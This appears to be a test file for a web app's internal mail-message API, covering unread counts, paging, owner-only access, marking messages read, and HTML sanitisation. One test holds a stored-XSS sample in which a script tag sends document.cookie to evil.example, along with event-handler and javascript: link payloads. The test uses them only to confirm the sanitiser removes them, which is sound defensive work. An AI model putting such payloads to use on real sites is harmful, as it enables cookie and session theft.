// The user's internal messages (SPEC §3/§7 /mailMessage/*): the unread count, the list newest
// first in pages, and the detail, which only the owner reads and which marks the message read
// once. What the operator sends comes back sanitised, in the list's excerpt and in the detail.
import type { PayloadOf } from '../../../types/catalogue'
import {
  BOOT_TIMEOUT,
  call,
  failure,
  okMessage,
  registerEmail,
  startServer,
  type TestServer,
} from './helpers'
import { OPS_TOKEN } from './certificationHelpers'

type Page = PayloadOf<'mailList'>
type Detail = PayloadOf<'mailDetail'>

let server: TestServer
beforeAll(async () => {
  server = await startServer({ opsToken: OPS_TOKEN, realtime: false })
}, BOOT_TIMEOUT)
afterAll(() => server.close())

async function send(account: string, title: string, content = `<p>${title}</p>`) {
  const answer = await call<{ id: number }>(server, 'POST', '/ops/message', {
    body: { account, title, content },
    headers: { 'x-ops-token': OPS_TOKEN },
  })
  return okMessage(answer).id
}

const count = async (token: string) =>
  okMessage(await call<number>(server, 'GET', '/api/mailMessage/getCount', { token }))

const list = async (token: string, body: Record<string, string> = {}) =>
  okMessage(await call<Page>(server, 'GET', '/api/mailMessage/getList', { token, body }))

const detail = (token: string, id: number | string) =>
  call<Detail>(server, 'GET', '/api/mailMessage/detail', { token, body: { id: String(id) } })

describe('/mailMessage/*', () => {
  it('needs a session (999)', async () => {
    for (const path of ['getCount', 'getList', 'detail']) {
      const answer = await call(server, 'GET', `/api/mailMessage/${path}`, { body: { id: '1' } })
      expect([path, failure(answer).type]).toEqual([path, '999'])
    }
  })

  it('lets only the owner read a message: another user is answered as for a missing one', async () => {
    const owner = await registerEmail(server)
    const other = await registerEmail(server)
    const id = await send(owner.email, 'Private')

    const stranger = failure(await detail(other.token, id))
    const missing = failure(await detail(other.token, id + 1000))
    expect(stranger).toEqual({ type: 'error', message: 'Message not found' })
    expect(missing).toEqual(stranger)
    expect((await list(other.token)).data).toEqual([])
    // the stranger's attempt did not mark it read
    expect(await count(owner.token)).toBe(1)
    // an id that is not digits is refused for its form, not as a message that is missing
    expect(failure(await detail(other.token, 'x1')).message).toBe(
      'id must be a whole number written in digits (0-9)',
    )
    expect(
      failure(
        await call(server, 'GET', '/api/mailMessage/detail', {
          token: other.token,
          body: { id: String(id), lang: 'de' },
        }),
      ).message,
    ).toBe('Nachricht nicht gefunden')
  })

  it('marks a message read once, on its first opening, and the count drops', async () => {
    const { email, token } = await registerEmail(server)
    const first = await send(email, 'First')
    await send(email, 'Second')
    expect(await count(token)).toBe(2)
    expect((await list(token)).data.map((m) => [m.title, m.read])).toEqual([
      ['Second', false],
      ['First', false],
    ])

    const opened = okMessage(await detail(token, first))
    expect(opened).toMatchObject({ id: first, title: 'First', content: '<p>First</p>' })
    expect(await count(token)).toBe(1)
    expect((await list(token)).data.map((m) => [m.title, m.read])).toEqual([
      ['Second', false],
      ['First', true],
    ])

    server.clock.advance(60_000)
    const again = okMessage(await detail(token, first))
    expect(again.read_at).toBe(opened.read_at)
    expect(await count(token)).toBe(1)
  })

  it('pages newest first, 10 by default', async () => {
    const { email, token } = await registerEmail(server)
    for (let i = 1; i <= 12; i++) await send(email, `Message ${i}`)
    const page1 = await list(token)
    expect(page1).toMatchObject({ page: 1, pages: 2, total: 12 })
    expect(page1.data.map((m) => m.title)).toEqual(
      Array.from({ length: 10 }, (_, i) => `Message ${12 - i}`),
    )
    const page2 = await list(token, { page: '2' })
    expect(page2).toMatchObject({ page: 2, pages: 2, total: 12 })
    expect(page2.data.map((m) => m.title)).toEqual(['Message 2', 'Message 1'])
    const small = await list(token, { page: '3', limit: '5' })
    expect(small).toMatchObject({ page: 3, pages: 3, total: 12 })
    expect(small.data.map((m) => m.title)).toEqual(['Message 2', 'Message 1'])
    expect(page1.data[0]).toEqual({
      id: expect.any(Number),
      title: 'Message 12',
      excerpt: 'Message 12',
      created_at: server.clock.now().toISOString(),
      read: false,
    })
  })

  it('shows a hostile message sanitised: no script, no handler, no javascript: link', async () => {
    const { email, token } = await registerEmail(server)
    const hostile =
      '<p onclick="steal()">Dear user, <b>welcome</b>&nbsp;&amp; thanks.</p>' +
      '<script>fetch("https://evil.example/?c="+document.cookie)</script>' +
      '<img src=x onerror="alert(1)">' +
      '<a href="javascript:alert(2)">claim</a> <a href="https://example.com/help">help</a>'
    const id = await send(email, 'Welcome', hostile)

    const { content } = okMessage(await detail(token, id))
    expect(content).toBe(
      '<p>Dear user, <b>welcome</b>\u00a0&amp; thanks.</p>claim ' +
        '<a href="https://example.com/help" target="_blank" rel="noopener noreferrer">help</a>',
    )
    expect(content).not.toMatch(/script|onerror|onclick|javascript:|<img/i)

    const [item] = (await list(token)).data
    expect(item.excerpt).toBe('Dear user, welcome & thanks. claim help')
  })

  it('cuts a long excerpt to 80 characters and an ellipsis', async () => {
    const { email, token } = await registerEmail(server)
    const long = `<p>${'word '.repeat(40)}</p><ul><li>one</li><li>two</li></ul>`
    await send(email, 'Long', long)
    const [item] = (await list(token)).data
    expect(item.excerpt).toBe(`${'word '.repeat(16).trimEnd()}…`)
    await send(email, 'List', '<ul><li>one</li><li>two</li></ul>')
    expect((await list(token)).data[0].excerpt).toBe('one two')
  })
})
